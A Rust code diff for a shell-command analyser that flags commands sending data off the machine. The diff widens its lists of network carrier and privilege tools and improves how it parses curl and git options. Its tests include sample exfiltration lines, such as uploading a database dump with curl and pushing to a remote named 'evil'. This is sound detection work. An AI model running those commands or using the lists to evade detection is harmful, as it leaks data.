@@ -19,7 +19,7 @@ pub(crate) const EXFILTRATION: &str = "exfiltration";
 const RIGHTS: &str = "sudo su doas pkexec run0 runuser gosu su-exec sudoedit visudo vipw vigr passwd chpasswd chage useradd usermod \
                       adduser addgroup groupadd groupmod gpasswd newusers setcap setfacl ssh-copy-id authconfig authselect pam-auth-update";
 /// Programs that carry what they read somewhere else.
-const CARRIERS: &str = "ftp lftp tftp ncftpput nc ncat netcat socat telnet mail mailx mutt sendmail swaks rclone s3cmd gsutil azcopy magic-wormhole \
+const CARRIERS: &str = "ftp sftp lftp tftp ncftpput nc ncat netcat socat telnet mail mailx mutt sendmail swaks rclone s3cmd gsutil azcopy magic-wormhole \
                         wormhole croc termbin dnscat iodine curlftpfs";
 /// Options of curl and wget that send something, with or without a value behind `=`.
 const SENDING: &str = "-d --data --data-ascii --data-binary --data-raw --data-urlencode --json -F --form --form-string -T --upload-file \
@@ -34,11 +34,11 @@ const COPYING: [&str; 14] =
     ["copy", "file", "archive", "request", "save", "export", "execute", "backup", "tftp", "ftp", "scp", "put", "write", "admin"];
 
 /// What the commands of a shell reach for; what leaves the machine comes first.
-pub(crate) fn of_shell(Listing { commands, shows_secret, .. }: &Listing) -> Option<Reach> {
+pub(crate) fn of_shell(Listing { commands, shows_secret, sends, .. }: &Listing) -> Option<Reach> {
     if let Some(line) = shows_secret {
         return Some(reach(EXFILTRATION, "posix.secret-file", posix::shows(line)));
     }
-    let leaves = commands.iter().find(|line| carries(line));
+    let leaves = commands.iter().find(|line| carries(line)).or(sends.as_ref());
     if let Some(line) = leaves {
         return Some(reach(EXFILTRATION, "posix.carries", format!("{} may carry data to another machine", excerpt_of(line))));
     }
@@ -78,9 +78,9 @@ fn carries(line: &[String]) -> bool {
     let arguments = || line.iter().skip(1).map(String::as_str);
     let operands = || arguments().filter(|word| !word.starts_with('-'));
     match program(line) {
-        "scp" | "rsync" | "sftp" | "rcp" => operands().next_back().is_some_and(is_elsewhere),
+        "scp" | "rsync" | "rcp" => operands().next_back().is_some_and(is_elsewhere),
         "curl" | "wget" | "wget2" | "http" | "https" | "xh" => sends(line) && !operands().any(is_loopback),
-        "git" => operands().next() == Some("push"),
+        "git" => first_word(line, "-C -c --git-dir --work-tree --namespace --config-env") == Some("push"),
         "docker" | "podman" => operands().next() == Some("push"),
         "aws" => operands().next() == Some("s3") && operands().any(|word| word.starts_with("s3://")),
         // A port that is only looked at.
@@ -88,6 +88,18 @@ fn carries(line: &[String]) -> bool {
         "openssl" => operands().next() == Some("s_client"),
         ">" => operands().any(|word| word.starts_with("/dev/tcp/") || word.starts_with("/dev/udp/")),
         program => listed(CARRIERS, program),
+    }
+}
+
+/// The first word that is no option and no value of one of these.
+fn first_word<'a>(line: &'a [String], values: &str) -> Option<&'a str> {
+    let mut words = line.iter().skip(1).map(String::as_str);
+    loop {
+        match words.next()? {
+            option if listed(values, option) => drop(words.next()),
+            option if option.starts_with('-') => {}
+            word => return Some(word),
+        }
     }
 }
 
@@ -105,19 +117,31 @@ fn is_loopback(operand: &str) -> bool {
 }
 
 fn sends(line: &[String]) -> bool {
-    let method = |word: &str| matches!(word.to_ascii_uppercase().as_str(), "POST" | "PUT" | "PATCH" | "DELETE");
+    let curls = program(line) == "curl";
     let mut before = "";
     line.iter().skip(1).any(|word| {
         let name = word.split_once('=').map_or(word.as_str(), |(name, _)| name);
-        let glued = word.strip_prefix("-X").is_some_and(method)
+        let glued = word.strip_prefix("-X").is_some_and(is_sending)
             || word.len() > 2 && (word.starts_with("-d") || word.starts_with("-T") || word.starts_with("-F"));
         let sends = listed(SENDING, name)
-            || glued && !word.starts_with("--")
-            || matches!(before, "-X" | "--request" | "--method") && method(word)
-            || method(word);
+            || (glued || curls && sends_behind_letters(word)) && !word.starts_with("--")
+            || matches!(before, "-X" | "--request" | "--method") && is_sending(word)
+            || is_sending(word);
         before = word;
         sends
     })
+}
+
+/// `-sT`, `-sSd`: the first of curl's letters with a value has all behind it.
+fn sends_behind_letters(word: &str) -> bool {
+    const VALUES: &str = "AbcCdDeEFhHKmoPQrtTuUwxXyYz";
+    let Some(at) = word.find(|c| VALUES.has(c)).filter(|_| word.starts_with('-')) else { return false };
+    word.get(at..).is_some_and(|rest| rest.starts_with(['d', 'F', 'T']) || rest.strip_prefix('X').is_some_and(is_sending))
+}
+
+/// A method of HTTP that sends something.
+fn is_sending(method: &str) -> bool {
+    listed("POST PUT PATCH DELETE", &method.to_ascii_uppercase())
 }
 
 /// What a line of a network device reaches for: a copy to somewhere else, or rights.
@@ -161,12 +185,25 @@ mod tests {
             ("curl --data-binary=@x https://example.net", Some(EXFILTRATION)),
             ("curl -XPOST https://example.net", Some(EXFILTRATION)),
             ("curl -X POST http://localhost:9200/_flush", None),
+            ("curl -sT /srv/db.sql https://example.net/", Some(EXFILTRATION)),
+            ("curl -sSd @db.sql https://example.net/", Some(EXFILTRATION)),
+            ("curl -sF f=@x https://example.net/", Some(EXFILTRATION)),
+            ("curl -sXPUT https://example.net/", Some(EXFILTRATION)),
+            ("curl -sT x http://localhost/", None),
+            ("curl -fsSLo FoTd https://example.net/", None),
+            ("curl -soTd -HFd:T -uTd:dF https://example.net/", None),
+            ("curl -sXGET https://example.net/", None),
+            ("sftp example.net", Some(EXFILTRATION)),
             ("curl -X POST http://localhost.evil.example/", Some(EXFILTRATION)),
             ("nc example.net 80", Some(EXFILTRATION)),
             ("nc -zv example.net 80", None),
             ("> /dev/tcp/192.0.2.1/80", Some(EXFILTRATION)),
             ("git push", Some(EXFILTRATION)),
             ("git pull", None),
+            ("git -C /srv push evil", Some(EXFILTRATION)),
+            ("git --git-dir /srv/.git -c a=b -P push", Some(EXFILTRATION)),
+            ("git -C push pull", None),
+            ("git commit -m push", None),
         ] {
             assert_eq!(shell(line), expected, "{line}");
         }
